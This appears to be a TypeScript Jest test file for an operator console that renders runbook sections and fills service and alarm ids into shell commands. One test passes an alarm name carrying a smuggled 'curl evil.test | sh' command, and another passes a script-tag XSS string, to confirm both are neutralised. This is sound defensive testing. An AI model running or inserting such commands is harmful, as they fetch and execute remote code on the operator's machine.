import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from '@jest/globals';
import type { Node } from '../../../../operator/console/protocol/formatted-text.ts';
import { runbookSection, sectionIn } from '../../../../operator/console/server/runbook.ts';
import { projectDir } from '../../../../tooling/project-dir.ts';

const IDS = {
  operator: 'npm run -s operator -- --stack partner-lines-staging-service',
  service: 'partner-lines-staging-service',
  alarm: 'partner-lines-staging-errors-relay',
};
const textOf = (node: Node): string => (typeof node === 'string' ? node : node.children.map(textOf).join(''));
const elementsIn = (node: Node): string[] =>
  typeof node === 'string' ? [] : [node.tag, ...node.children.flatMap(elementsIn)];

const section = (markdown: string) => sectionIn(`# Page\n\n## One\n\n${markdown}\n\n## Two\n\nOther`, 'one', IDS);
/** Returns a block of commands. */
const sh = (...lines: string[]) => `\`\`\`sh\n${lines.join('\n')}\n\`\`\``;
const texts = (markdown: string) => section(markdown)?.blocks.map(textOf);

describe('runbook sections in the operator console', () => {
  it('a section of the runbook ends at the next heading of the same level', () => {
    expect(section('First.\n\n### Inside\n\nSecond.')).toMatchObject({ title: 'One' });
    expect(texts('First.\n\n### Inside\n\nSecond.')).toEqual(['First.', 'Inside', 'Second.']);
  });

  it('the console inserts the stage of the service and the function of the alarm into runbook commands', () => {
    expect(texts('```sh\noperator doctor\n```')).toEqual([`${IDS.operator} doctor`]);
    expect(texts('`operator doctor`')).toEqual([`${IDS.operator} doctor`]);
    expect(texts('`aws logs tail /partner-lines/prod/NAME`')).toEqual(['aws logs tail /partner-lines/staging/relay']);
    expect(texts('The NAME of /partner-lines/prod/')).toEqual(['The NAME of /partner-lines/prod/']);
  });

  it('the console inserts the function of an alarm into runbook commands, even if the stage has a hyphen in its name', () => {
    const alarm = 'partner-lines-kr-prod-many-faults-relay';
    const found = sectionIn('## One\n\n`/partner-lines/prod/NAME`', 'one', { ...IDS, alarm });
    expect(found?.blocks.map(textOf)).toEqual(['/partner-lines/staging/relay']);
  });

  it('the console does not insert an invalid function name into the commands of a runbook section', () => {
    const alarm = 'partner-lines-staging-errors-relay; curl evil.test | sh';
    const found = sectionIn('## One\n\n`mapping enable --name NAME`', 'one', { ...IDS, alarm });
    expect(found?.blocks.map(textOf)).toEqual(['mapping enable --name NAME']);
  });

  it('the console links runbook commands to its list pages', () => {
    const linksIn = (node: Node): string[] =>
      typeof node === 'string' ? [] : [...(node.href ? [node.href] : []), ...node.children.flatMap(linksIn)];
    const links = (markdown: string) => section(markdown)?.blocks.flatMap(linksIn);
    expect(links(sh('operator queue list', 'operator mapping list', 'operator partner list'))).toEqual([
      '/queues',
      '/partners',
    ]);
    expect(texts(sh('operator audit list'))?.[1]).toBe('In this console: Audit.');
    expect(texts(sh('operator call refused'))?.[1]).toBe('In this console: Refused calls.');
    expect(texts('Run `operator sweep`.')).toEqual([`Run ${IDS.operator} sweep (Queues).`]);
    expect(links(sh('operator doctor', 'operator delivery show --call C', 'aws logs tail x'))).toEqual([]);
  });

  const onLocal = (markdown: string) =>
    sectionIn(`## One\n\n${markdown}`, 'one', { ...IDS, dataDir: '/tmp/my $& data' })?.blocks.map(textOf);

  it('the log commands of a runbook section read the log file if the service is local', () => {
    const code = sh(
      'logs api-access 15m \'{ $.status = "5*" }\'',
      '# local: grep 5 .local/service.log | tail',
      'logs relay 2h \'"Wake-ups sent"\'',
      'logs sweep 1d',
    );
    expect(texts(code)?.[0]?.split('\n')).toEqual([
      'aws logs tail /partner-lines/staging/api-access --since 15m --filter-pattern \'{ $.status = "5*" }\'',
      'aws logs tail /partner-lines/staging/relay --since 2h --filter-pattern \'"Wake-ups sent"\'',
      'aws logs tail /partner-lines/staging/sweep --since 1d',
    ]);
    expect(onLocal(code)?.[0]?.split('\n')).toEqual([
      "grep 5 '/tmp/my $& data'/service.log | tail",
      `grep '"relay"' '/tmp/my $& data'/service.log | grep 'Wake-ups sent' | tail`,
      `grep '"sweep"' '/tmp/my $& data'/service.log | tail`,
    ]);
  });

  it('the runbook of a local service omits the parts that apply only to AWS', () => {
    const command = '```sh\noperator doctor\nX=$(aws a \\\n  --b)\naws c\n```';
    expect(onLocal(command)).toEqual([`${IDS.operator} doctor\n`]);
    expect(onLocal('```sh\naws a\n```')).toEqual([]);
    const step = '1. First:\n   ```sh\n   aws a\n   ```\n2. Then `operator doctor`';
    expect(onLocal(step)).toEqual([`Then ${IDS.operator} doctor`]);
    const rows = '| a |\n|---|\n| `aws a` |\n| `operator doctor` |';
    expect(onLocal(rows)).toEqual([`a${IDS.operator} doctor`]);
    expect(onLocal('First.\n\nOn AWS, `a` must be enabled.')).toEqual(['First.']);
    expect(texts('On AWS, `a` must be enabled.')).toEqual(['On AWS, a must be enabled.']);
    expect(texts(step)?.join()).toContain('aws a');
    expect(texts(rows)?.join()).toContain('aws a');
  });

  it("the console inserts the ids from the page's address into the commands and links of a runbook section", () => {
    const ids = { ...IDS, alarm: undefined, partner: 'pt_1', line: 'ln_1', call: 'a b' };
    const code = '`partner show --partner P`, `line show --tenant T`, `call show --call C` and [more](#two)';
    const found = sectionIn(`## One\n\n${code}`, 'one', ids);
    expect(found?.blocks.map(textOf)).toEqual([
      "partner show --partner pt_1, line show --tenant ln_1, call show --call 'a b' and more",
    ]);
    const odd = sectionIn(`## One\n\n${code}`, 'one', { ...ids, partner: 'x --call C' });
    expect(odd?.blocks.map(textOf)[0]).toMatch(/^partner show --partner 'x --call C', /);
    expect(JSON.stringify(found)).toContain('"/runbook/two?partner=pt_1&line=ln_1&call=a+b"');
  });

  it('the console shows HTML tags in a runbook section as text', () => {
    const found = section('1. A **list**\n   ```sh\n   <b>\n   ```\n\n| a |\n|---|\n| [b](#two) |');
    expect(found?.blocks.flatMap(elementsIn).join(' ')).toBe('ol li strong pre table tr th tr td a');
    expect(texts('<script>alert(1)</script>')).toEqual(['<script>alert(1)</script>']);
  });

  it('the console shows no links to other documents in a runbook section', () => {
    const href = `/runbook/two?alarm=${IDS.alarm}`;
    expect(section('[There](#two)')?.blocks).toEqual([
      { tag: 'p', children: [{ tag: 'a', children: ['There'], href }] },
    ]);
    expect(section('[There](deploy.md)')?.blocks.flatMap(elementsIn)).toEqual(['p', 'span']);
  });

  it('the console finds every heading under Alarms in the runbook by its GitHub anchor', async () => {
    const [, alarms = ''] = readFileSync(join(projectDir(), 'docs/runbook.md'), 'utf8').split('\n# Alarms\n');
    const headings = [...alarms.matchAll(/^## (.+)$/gm)].map(([, title = '']) => title);
    expect(headings.length).toBeGreaterThan(20);
    for (const title of headings) {
      const found = await runbookSection(
        title
          .toLowerCase()
          .replaceAll(/[^a-z\d -]/g, '')
          .replaceAll(' ', '-'),
        IDS,
      );
      expect(found).toMatchObject({ title });
    }
  });
});
